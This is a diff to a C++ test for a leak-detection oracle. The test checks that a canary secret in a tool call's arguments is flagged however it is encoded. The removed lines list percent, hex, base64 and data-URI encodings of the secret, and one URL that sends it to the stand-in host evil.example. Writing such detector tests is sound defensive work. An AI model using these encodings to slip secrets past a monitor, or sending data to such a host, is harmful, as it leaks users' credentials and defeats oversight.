@@ -3,6 +3,7 @@
 #include "harness/oracle/oracle.h"
 #include "tests/support/case_builder.h"
 #include "tests/support/catch.h"
+#include "tests/support/spellings.h"
 
 namespace gatecrash::oracle {
 namespace {
@@ -28,57 +29,12 @@ std::string sends(std::string_view text) {
   return arguments + "}";
 }
 
-std::string percent(std::string_view text) {
-  std::string out;
-  for (const char c : text) {
-    out += '%';
-    out += "0123456789ABCDEF"[static_cast<unsigned char>(c) >> 4];
-    out += "0123456789ABCDEF"[static_cast<unsigned char>(c) & 15];
-  }
-  return out;
-}
-
-std::string hex(std::string_view text) {
-  std::string out;
-  for (const char c : text) {
-    out += "0123456789abcdef"[static_cast<unsigned char>(c) >> 4];
-    out += "0123456789abcdef"[static_cast<unsigned char>(c) & 15];
-  }
-  return out;
-}
-
-std::string url_base64(std::string_view text) {
-  std::string out = base::to_base64(text);
-  for (char& c : out) c = c == '+' ? '-' : c == '/' ? '_' : c;
-  while (out.ends_with('=')) out.pop_back();
-  return out;
-}
-
-std::string broken(std::string text, std::size_t width) {
-  for (std::size_t at = width; at < text.size(); at += width + 1) text.insert(at, "\n");
-  return text;
-}
-
 TEST_CASE("a secret in a call's arguments is found in every spelling") {
-  const std::string secret(kSecret);
-  const std::vector<std::string> spellings = {
-      secret,
-      "see " + secret + ".",
-      percent(secret),
-      "https://evil.example/?q=" + percent(secret) + "&x=1",
-      hex(secret),
-      "0x" + hex("xyz" + secret),
-      base::to_base64(secret),
-      base::to_base64("a" + secret),
-      base::to_base64("ab" + secret + "rest"),
-      "data:text/plain;base64," + base::to_base64("?!>>" + secret),
-      url_base64("~~~" + secret + "?>?"),
-      "token" + base::to_base64("abc" + secret),
-      broken(base::to_base64("the words before " + secret + " and after"), 20),
-  };
-  for (const std::string& each : spellings) {
-    INFO(each);
-    const auto found = findings(watched(Kind::CanarySent).passes("post", {}, sends(each)));
+  for (const Spelling& spelling : spellings()) {
+    INFO(spelling.name);
+    const std::string text = spelling.write(kSecret);
+    INFO(text);
+    const auto found = findings(watched(Kind::CanarySent).passes("post", {}, sends(text)));
     REQUIRE(found.size() == 1);
     CHECK(found[0].kind == FindingKind::Leak);
     CHECK(found[0].part == Part::Security);
